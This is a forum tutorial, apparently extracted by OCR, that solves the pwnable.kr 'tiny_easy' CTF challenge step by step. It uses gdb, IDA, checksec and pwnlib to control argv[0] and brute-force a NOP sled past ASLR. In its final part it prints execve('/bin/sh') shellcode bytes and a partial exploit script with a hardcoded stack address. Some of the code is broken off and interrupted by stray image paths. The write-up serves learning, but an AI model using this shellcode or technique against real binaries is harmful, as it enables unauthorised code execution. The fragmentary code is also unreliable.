Exploit Development - The Magic in Hacking

The Magic in Hacking

While wandering around the various amazing topics in this forum, I noticed a lack of one of the subjects I enjoy the most - exploit development (last post was more than a month ago).

I decided to write my own post about the subject which will also be my first post in this forum.

What we will go over in this article:

My experience in exploit development

Go over a CTF from pwnable.kr step by step as we solve it.Explain different tools i use for and how i implemented them to solve this challenge

Recommended Pre-requisites:

  • Basic Linux understanding

  • X86 assembly knowledge

  • Knowledge of how the stack works

  • Basic C language

  • understanding of Basic buffer overflow exploits

  • Basic development in python

A Song of Bytes and Shells

Ever since I was a kid I was intrigued with exploits. when I was around 16 and started developing malware but i always felt that while malware was something i could understand and learn how to do well, exploits were always something of a mystery to me . I remember once, when i at home with my older brother who was much more knowledgeable than me at the time and I asked him for the first time what exploits were after I heard about that term so many times.

He said to me: “exploits are where magic happens in hacking”Ever since then many winters have passed, the boy i was became a man and with it i learned more and more about the subject. I started working professionally in the field of exploit research and developed many exploits and shellcode galleries of my own. I realized how exploits are an artform of their own, they require the highest level of professionalism because a lot of the time you need a combination of various fields
(for example: C language, assembly, understanding of the heap and stack, python for development the exploit) in order to make an exploit and that is just the tip of iceberg.

This can be very daunting for a someone who wants to enter the field of exploit development as it is a zero sum game.

As Cersei Lannister described accurately :

 “When you play the game of Exploits, you pwn or you crash. There is no middle ground.”

I hope in this article that i can help ease people in to the subject and tools using
one of my favorite CTF challenge.

Don’t judge a binary by its size

Today we will analyze a CTF from one of my most favourite CTF websites - pwnable.kr

pwnable.kr is an amazing site for anyone wishing to try out hard exploitation and reverse engineering challenges.

I found all kinds of exploit challenges there, from memory corruptions to command injections and up to kernel write exploits and race conditions.

Highly recommend you all to check itout.

For this article I decided to go over the tiny_easy challenge.

Let’s SSH inside!

ssh [[email protected]](mailto:[email protected]) -p2222

(For windows users i highly recommend mobaxterm, it’s an easy software you can use to handle ssh sessions and download software easily)

Inside the ssh, we run “ls” and find only a binary and our flag file which we can’t read as we don’t have any permissions

Let’s download the binary and perform some checks on it:
well start off with the “file” command.

This command gives us details about the binary including it’s architecture, bitness(x64 vs x32) and other nice details

We can see from this output that the file is a 32-bit ELF file for the x86 architecture and it’s statically linked.

But wait…

Lets try to run the binary and see whathappens :

As seen by the fact that the binary has a corrupted header and crashes on execution, we can understand that we may be in for a bit different binary than what we usually see.

Lets open the binary in ida and go over the code

Wow! Look at that! this has to be the smallest CTF i’ve ever looked at :slight_smile:

The whole program has only 4 instructions.

We perform two pops from the stack. Takes the value from where edx points to and then jumps to it.

But wait… there aren’t any calls in this program so which values are poped from the stack?

Let’s use gdb and check it out!

In this article i used gdb with the peda extension that makes debugging much easier.

Having a look at the stack, we see that eax will receive the value 1 and edx will receive a pointer to the string


That is the path to our binary!

If we continue stepping until the call to edx, we see the reason why we received our segfault earlierThe program attempts to jump to the address 0x6d6f682f which is value for the string “/hom”. A part of the path to our binary

Let’s try to run our program with the parameters test1 test2 test3

We can do this by running the command in gdb

run test1 test2 test3

As we can see, the stack has changed, now we have our parameters in the stack and the value at the top of the stack has changed from 0x1 to 0x4.

Remember in the C language, how the main function receives input?

Int main(int argc, char * argv [], char * envp)

argv[0] in main always points to the path of the current binary and then argv[1]argv[2] and so forth will contain our arguments.

In order to successfully jump where we want, we need to have control over argv[0] because the program will jump to the value in it.

How can we control over argv[0] if it isn’t one of our parameters?

Introducing pwnlib!

Pwnlib is a python library that allows us to easily communicate with sockets and processes for the sake of pwning them.

The pwnlib.tubes.process allows us to create a process of our own and control it’s different arguments (argv, envp) and so forth.

Just to show you anexample of the use of pwnlib, i compiled the following code snippet:

int main(int argc, char * argv[])


    printf("\nthis is our argv[0] %s\n", argv[0]);


We compile and run it and get the following result:

Let’s use pwnlib to manipulate the argv[0] to our own string

from pwnlib.tubes.process import *argv_program=process(argv=["awdawd"], executable="/home/user/test_argv")

print argv_program.recv()

Now lets run our python program and see what result we received from the test_argv program:


We now know how to have control over argv0, this means we can jump anywhere we want in the tiny_easy binary.

Our next step is checking what mitigations does this binary have.

Let’s run checksec and see.

RELRO: No RELRO - no RELRO protection here - Not relevant

Stack: No stack canary is found here. Not relevant here but cool

NX: NX disabled - non executable protections is disabled, jackpot!**PIE: **the code is not position independent - not relevant

Note: By default, ASLR is enabled at stack level

NX protection is a protection which doesn’t allow us to run code only in the code sections of a binary. This means that we can’t jump to code on the stack or heap and run them.

In this example, we can see this binary is compiled without this protection which means we can possibly jump to our code on the stack.

I need to stress this out: checking for these kinds of protections straight in the beginning will save you a lot of time and frustration.

In this example, because we can’t control the return address and NX is disabledthen our best bet is to concentrate our effort of finding a way to jump to the stack and execute our shellcode that is stored in one of our parameters.

If on the other hand, NX was enabled then this means that we couldn’t jump to the stack and we needed to find a different way to run our code (ROP Gadgets, ret2libc, and many other methods)

Now that we can control where we can jump,we need to deal with the fact that ASLR isenabled at the stack level.

Let’s try to find an instruction that can allow us to jmp to the stack and thus run our shellcode.

The rest of the bytes in the program are part of the elf header

We can also view these bytes an instructions in IDA using the “C” hotkey

Our best bet for an instruction to jump to is “jmp esp”

This will jump to the stack and from there we may be able to get to our shellcode that is stored in one of the parameters.

I like to perform my searches by hand :slight_smile: so i used online disassembling to find what opcodes make up the jmp esp instruction.

If we try to disassemble jmp esp we get:

ff e3

Lets try to search this bytes in IDA using the search->sequence of bytes

And put in ff e3

No result :frowning:I tried searching for the bytes for call esp and didn’t find anything!

Now this is an interesting situation.

We want to jump to our code on the stack but we don’t know the address to jump to because of ASLR.

We tried to find an instruction that allows us to jmp to the stack without knowing it’s address but we didn’t find any.

Another quick idea i tried:

Jmp to an instruction that will allow you to write bytes to code section.

You can use this method to overwrite one of the instructions with the jmp esp opcodes to one of the addresses and then perform a jump to the instruction’s address.

It’s basically like driving a train that builds its tracks while it’s going and i liked the idea of this.

Unfortunately, i checked out the segment permissions to see what are the section permission using view->Open subviews->segments and found our the following

Only the R and X permissions are enabled for the code section

R - read permissions

X - execute permissions

The W (write) permission is disabled.

This means that if we attempt to rewrite an instruction in the code section, we will receive a segfault and the program will crash.

I banged my head on this program for a couple of hours, trying different methods of jumping to instructions but i couldn’t find a way to get to the stack successfully.

What shall a young exploiter do next?

ASLR in 32-bit

I started reading about ASLR implementation on 32bit systems (remember, our binary is 32-bit )

And i found the following explanation:

“For 32-bit, there are 2^32 (4 294967 296) theoretical addresses, nevertheless, the kernel will allow to control about only half of bits (2^(32/2) = 65 536) for an execution in a virtualized memory”.

This means that the stack size can randomized just up to 65,536 bytes.

If we can can control tens of thousands of shellcode bytes then we mightcan try to jmp to a constant address on the stack and have a good probability of success

I checked whether it was possible to send lots of parameters with long strings

from pwnlib.tubes.process import *

for i in range(600):


argv_program=process(argv=["awdawd"], executable="/home/user/test_argv")

print argv_program.recv()

We sent in this example, 6014400 bytes to our program and run succesfully

Let’s make a slide!

A NOP slide !We can send our parameters filled with nops and our shellcode at the end.

That way, we can jump to a random address on the stack and hopefully we will be able to land on one of our nop instructions and we will slide the whole way to our shellcode.

I made the following code that executes the program

With our payload and attempts to jump to a constant address on the stack


This address was chosen for both reasons:

1.In this program i noticed after many executions with gdb that this address is most of the time in the range of the stack or very close to it

2.we needed an address without any null bytes in it because otherwise we would get

An the following error:

“Inappropriate nulls in argv[0]:”

So i wrote the following code:

import structimport random

from pwnlib.tubes.process import *

from pwnlib.exception import *

import pwnlib

# Taken from http://shell-storm.org/shellcode/files/shellcode-811.php

# execve('/bin/sh')

EXECV = "\x31\xc0\x50\x68\x2f\x2f\x73\x68\x68\x2f\x62\x69\x6e\x89\xe3\x89\xc1\x89\xc2\xb0\x0b\xcd\x80\x31\xc0\x40\xcd\x80"

def build_shellcode(address):


    Build shellcodeaddress - address to jump to


    args = []


    shellcode =   "\x90"*8000 + EXECV

    for i in range(120):


    return args


if __name__ == "__main__":

    jump_address = struct.pack("I", 0xffb05544)for i in range(10000000):


            prog_args = build_shellcode(jump_address)

                print "attempt number: {}".format(i + 1 )

            pro = process(argv=prog_args,



